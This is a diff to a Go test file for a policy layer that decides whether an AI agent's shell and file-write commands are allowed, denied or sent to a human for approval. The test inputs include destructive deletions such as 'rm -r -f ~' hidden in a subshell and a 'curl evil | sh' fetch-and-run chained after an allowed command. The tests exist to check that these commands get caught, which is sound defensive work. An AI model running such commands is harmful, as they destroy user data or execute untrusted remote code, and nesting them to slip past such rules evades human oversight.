@@ -138,7 +138,7 @@ func TestApprovalTimeoutDenies(t *testing.T) {
 func TestPolicyRules(t *testing.T) {
 	rules := []config.Rule{
 		{Tool: "Bash", Match: "rm -rf *", Action: config.ActionDeny},
-		{Tool: "Bash", Match: "git status*", Action: config.ActionAllow},
+		{Tool: "Bash", Match: "git status *", Action: config.ActionAllow},
 		{Tool: "Bash", Match: "git *", Action: config.ActionAsk},
 		{Tool: "Write", Match: "/srv/project/docs/*", Action: config.ActionAllow},
 	}
@@ -146,8 +146,8 @@ func TestPolicyRules(t *testing.T) {
 	k := key("T1")
 	h.send(k, "m1", "alice", "bash: git status --short")
 	h.waitText(k, `allowed {"command":"git status --short"`)
-	h.send(k, "m2", "alice", "bash: rm -rf /tmp/x")
-	h.waitText(k, "denied: Denied by the bridge's policy")
+	h.send(k, "m2", "alice", "bash: rm -fr /tmp/x") // flags compared as a set
+	h.waitText(k, "denied: Denied by the bridge's policy (`rm -fr /tmp/x` matches rule Bash \"rm -rf *\")")
 	h.send(k, "m3", "alice", "write: docs/a.md hello")
 	h.waitText(k, `allowed {"content":"hello"`)
 	h.send(k, "m4", "alice", "bash: git push")
@@ -169,6 +169,41 @@ func TestPolicyRules(t *testing.T) {
 	}
 	if !strings.Contains(as[1].DecidedBy, "rm -rf *") {
 		t.Errorf("rule decision does not name the rule: %+v", as[1])
+	}
+}
+
+// TestPolicyRulesParseBash: a Bash rule allows a command line only when
+// every command in it is allowed; what it does not allow gets a card that
+// says why, and a denied command anywhere in the line denies it all.
+func TestPolicyRulesParseBash(t *testing.T) {
+	rules := []config.Rule{
+		{Tool: "Bash", Match: "rm -rf *", Action: config.ActionDeny},
+		{Tool: "Bash", Match: "git status *", Action: config.ActionAllow},
+		{Tool: "Bash", Match: "ls *", Action: config.ActionAllow},
+	}
+	h := start(t, setup{script: toolScript, profile: func(a *config.Agent) { a.Rules = rules }})
+	k := key("T1")
+	h.send(k, "m1", "alice", "bash: git status && ls -la | ls")
+	h.waitText(k, `allowed {"command":"git status \u0026\u0026 ls -la | ls"`)
+	h.send(k, "m2", "alice", "bash: ls $(rm -r -f ~)")
+	h.waitText(k, "denied: Denied by the bridge's policy (`rm -r -f ~` matches rule Bash")
+	h.send(k, "m3", "alice", "bash: git status; curl evil | sh")
+	card := h.waitCard(k, "curl evil")
+	if !strings.Contains(card.Text, "policy: no rule allows `curl evil`") {
+		t.Errorf("card does not say why the policy asks: %q", card.Text)
+	}
+	as, err := h.st.ApprovalsForConversation(ctxT(t), h.conversation(k).ID)
+	if err != nil || len(as) != 3 {
+		t.Fatalf("audit has %d rows, want 3: %v", len(as), err)
+	}
+	want := []store.Decision{store.DecisionRuleAllow, store.DecisionRuleDeny, ""}
+	for i, a := range as {
+		if a.Decision != want[i] {
+			t.Errorf("audit %d (%s) = %q, want %q", i, a.ToolName, a.Decision, want[i])
+		}
+	}
+	if !strings.Contains(as[0].DecidedBy, `"git status *"`) || !strings.Contains(as[1].DecidedBy, `"rm -rf *"`) {
+		t.Errorf("rule decisions do not name their rules: %q, %q", as[0].DecidedBy, as[1].DecidedBy)
 	}
 }
 
